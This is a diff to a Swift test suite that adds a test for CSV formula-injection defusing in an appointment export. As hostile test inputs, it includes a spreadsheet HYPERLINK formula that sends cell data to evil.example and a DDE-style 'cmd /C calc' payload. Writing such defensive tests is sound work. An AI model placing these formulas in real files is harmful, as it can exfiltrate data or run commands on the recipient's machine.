@@ -57,6 +57,24 @@ extension AuditTests {
         #expect(try readFile(dir + "/e.jsonl") == expected(10, 120))
     }
 
+    /// IntakeQ's free text reaches an auditor's spreadsheet: a cell that would run as a formula
+    /// is given a leading `'` (it was written as it came, `=HYPERLINK(…)` included; hostile test).
+    @Test func csvCellsThatWouldRunAsFormulasAreDefused() throws {
+        #expect(Export.csvField(#"=HYPERLINK("http://evil.example/?x="&A1,"click")"#)
+                == #""'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")""#)
+        #expect(Export.csvField("@SUM(1+1)*cmd|' /C calc'!A0") == "'@SUM(1+1)*cmd|' /C calc'!A0")
+        #expect(Export.csvField("+1 555 0100") == "'+1 555 0100")
+        #expect(Export.csvField("-x") == "'-x")
+        #expect(Export.csvField("\tcmd") == "'\tcmd")
+        #expect(Export.csvField("\r=1") == "\"'\r=1\"")
+        // Numbers, and text that starts otherwise, are as they were.
+        #expect(Export.csvField("-12") == "-12")
+        #expect(Export.csvField("+3.5") == "+3.5")
+        #expect(Export.csvField("Downtown Office") == "Downtown Office")
+        #expect(Export.csvField("a=b, c") == "\"a=b, c\"")
+        #expect(Export.csvField("") == "")
+    }
+
     @Test func csvExportParsesBackToOneRowPerAppointmentVersion() async throws {
         let t = try await Timeline.get()
         let r = try await syncledger(t.store, "export", "--format", "csv")
